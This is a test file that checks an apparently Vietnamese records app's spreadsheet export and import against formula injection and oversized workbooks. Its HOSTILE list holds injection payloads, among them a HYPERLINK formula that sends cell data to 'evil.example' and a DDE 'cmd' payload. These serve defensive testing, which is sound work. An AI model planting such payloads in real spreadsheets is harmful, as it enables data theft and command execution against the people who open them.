"""Spreadsheets are data: every workbook the app writes holds text cells, never formulas (a name
beginning with "=" arrives from a commune's bundle as easily as from a keyboard), and the reader
visits only the cells a file really holds, refusing one that holds too much."""

from __future__ import annotations

import sqlite3
import zipfile
from datetime import datetime
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.styles import Font

from app.cli.main import main
from app.errors import AppError
from app.services import tables
from app.services.spreadsheet_import import plan_import
from tests.syncing import COMMUNE, opened

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1;"Bấm vào đây")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd",
    "\t=1+1",
    "\r=1+1",
]


def run(capsys, *argv):
    code = main([str(a) for a in argv])
    out, err = capsys.readouterr()
    return code, out, err


def _plant(path: Path) -> None:
    """Names, achievements and a unit name beginning with formula characters, written the way an
    older version or a relayed bundle could have stored them (tab and CR included)."""
    with sqlite3.connect(path) as con:
        ids = [
            r[0]
            for r in con.execute(
                "select id from honorees where owner_unit_id = "
                "(select id from units where code = ?) order by id",
                (COMMUNE,),
            )
        ]
        for record, text in zip(ids, HOSTILE, strict=False):
            con.execute(
                "update honorees set collective = 1, name = ?, achievement = ? where id = ?",
                (text, text, record),
            )
        con.execute(
            "update invitees set position = ? where id = (select min(id) from invitees)", (HOSTILE[0],)
        )
        con.execute("update units set name = ? where code = ?", (HOSTILE[1], COMMUNE))


def _cells(path: Path) -> list:
    workbook = load_workbook(path)
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def test_every_workbook_the_app_writes_holds_text_never_formulas(trio, tmp_path, capsys):
    """The commune's names arrive at the district in a bundle; every workbook the district writes
    of them (lists of every unit below, progress, the consolidated report) keeps them as text."""
    from tests.syncing import DISTRICT

    _plant(trio.db(COMMUNE))
    [preview] = trio.load(DISTRICT, trio.export(COMMUNE))
    assert preview.status == "imported", preview.reason
    demo_db = trio.db(DISTRICT)
    outputs = []
    for args in (
        ["xlsx", "export", "honorees", "--all"],
        ["xlsx", "export", "invitees", "--all"],
        ["xlsx", "export", "delegates", "--all"],
        ["xlsx", "export", "speeches", "--all"],
        ["xlsx", "export", "progress"],
        ["report", "progress"],
    ):
        out = tmp_path / f"{'-'.join(args)}.xlsx"
        code, _, err = run(capsys, "--db", demo_db, *args, "--out", out)
        assert code == 0, (args, err)
        outputs.append(out)
    seen: set[str] = set()
    for out in outputs:
        cells = _cells(out)
        assert not [c.coordinate for c in cells if c.data_type == "f"], out.name
        for cell in cells:
            if isinstance(cell.value, str) and cell.value.strip() in {h.strip() for h in HOSTILE}:
                assert cell.data_type == "s", (out.name, cell.coordinate)
                seen.add(cell.value.strip())
            if isinstance(cell.value, str) and cell.value[:1] in "=+-@\t\r":
                assert cell.quotePrefix, (out.name, cell.coordinate, cell.value)
        # numbers and dates stay real cells
        assert any(isinstance(c.value, int) and c.data_type == "n" for c in cells)
    assert {h.strip() for h in HOSTILE} <= seen
    deadlines = _cells(outputs[4])
    assert any(isinstance(c.value, datetime) and c.number_format == "dd/mm/yyyy" for c in deadlines)


def test_a_formula_looking_name_comes_back_as_the_same_string(tmp_path, capsys):
    db = tmp_path / "xa.sqlite"
    assert main(["--db", str(db), "demo", "--as-unit", COMMUNE]) == 0
    _plant(db)
    out = tmp_path / "ds.xlsx"
    code, _, err = run(capsys, "--db", db, "xlsx", "export", "honorees", "--out", out)
    assert code == 0, err
    with opened(db) as store:
        plan = plan_import(store, "honorees", out)
    names = {r.values["name"] for r in plan.to_import}
    # what the importer stores is what every door stores (surrounding white space trimmed)
    assert {h.strip() for h in HOSTILE} <= names


# -- the bounded reader ---------------------------------------------------------------------------
def _counting(monkeypatch) -> list[int]:
    """Count the cells the reader turns into text."""
    count = [0]
    real = tables.cell_text

    def counted(value: object) -> str:
        count[0] += 1
        return real(value)

    monkeypatch.setattr(tables, "cell_text", counted)
    return count


def _edit_sheet(path: Path, change) -> None:
    with zipfile.ZipFile(path) as archive:
        parts = {i.filename: archive.read(i) for i in archive.infolist()}
    parts["xl/worksheets/sheet1.xml"] = change(parts["xl/worksheets/sheet1.xml"])
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)


def test_one_formatted_empty_cell_far_away_costs_nothing(tmp_path, monkeypatch):
    wb = Workbook()
    ws = wb.active
    ws.append(["Họ và tên", "Năm sinh", "Chức vụ"])
    ws.append(["Nguyễn Văn An", 1980, "Cán bộ"])
    ws["AX20000"].font = Font(bold=True)  # formatted, empty: Excel's max_row × max_column is 1,000,000 cells
    ws["A30000"] = "Người lập biểu"
    ws.merge_cells("A30000:C30000")
    path = tmp_path / "thua.xlsx"
    wb.save(path)
    # a merge over the rest of the sheet (openpyxl itself would make 17 billion cells to write it)
    _edit_sheet(path, lambda xml: xml.replace(b'ref="A30000:C30000"', b'ref="A30000:XFD1048576"'))
    assert path.stat().st_size < 10_000
    count = _counting(monkeypatch)
    rows = tables.read_sheet(path)
    assert [r for r, _ in rows] == [1, 2, 30000]
    assert [c.text for c in rows[0][1]] == ["Họ và tên", "Năm sinh", "Chức vụ"]
    assert [c.text for c in rows[1][1]] == ["Nguyễn Văn An", "1980", "Cán bộ"]
    assert [c.text for c in rows[2][1]] == ["Người lập biểu"] * 3  # the merge, only over the data's width
    assert count[0] < 20  # the cells that hold values, not max_row × max_column


def test_a_sheet_with_more_data_than_the_limit_is_refused_with_one_line(tmp_path, monkeypatch, capsys):
    wb = Workbook()
    ws = wb.active
    ws.append(["Họ và tên", "Năm sinh"])
    for number in range(60):
        ws.append([f"Nguyễn Văn {number}", 1980])
    path = tmp_path / "lon.xlsx"
    wb.save(path)
    csv = tmp_path / "lon.csv"
    csv.write_text(
        "Họ và tên,Năm sinh\n" + "".join(f"Lê Văn {n},1980\n" for n in range(60)), encoding="utf-8"
    )
    monkeypatch.setattr(tables, "MAX_CELLS", 100)
    for file in (path, csv):
        with pytest.raises(AppError, match="too large"):
            tables.read_sheet(file)
    db = tmp_path / "xa.sqlite"
    assert main(["--db", str(db), "demo", "--as-unit", COMMUNE]) == 0
    capsys.readouterr()
    code, _, err = run(capsys, "--db", db, "xlsx", "import", "honorees", path)
    assert code == 1 and err.count("\n") == 1 and "quá lớn" in err
    monkeypatch.setattr(tables, "MAX_CELLS", 1_000)
    monkeypatch.setattr(tables, "MAX_ROWS", 50)
    with pytest.raises(AppError, match="too large"):
        tables.read_sheet(path)


def test_a_sheet_that_unpacks_to_too_much_xml_is_refused_before_it_is_read(tmp_path, monkeypatch):
    wb = Workbook()
    ws = wb.active
    for number in range(200):
        ws.cell(number + 1, 1).font = Font(italic=True)  # empty, formatted: XML without data
    path = tmp_path / "bom.xlsx"
    wb.save(path)
    monkeypatch.setattr(tables, "MAX_SHEET_XML", 2_000)
    count = _counting(monkeypatch)
    with pytest.raises(AppError, match="unpacked"):
        tables.read_sheet(path)
    assert count[0] == 0


@pytest.mark.parametrize("content", [b"", b"PK\x03\x04 broken", b"<?xml version='1.0'?><x/>"])
def test_a_broken_workbook_is_one_sentence(tmp_path, content):
    path = tmp_path / "hong.xlsx"
    path.write_bytes(content)
    with pytest.raises(AppError, match="broken"):
        tables.read_sheet(path)
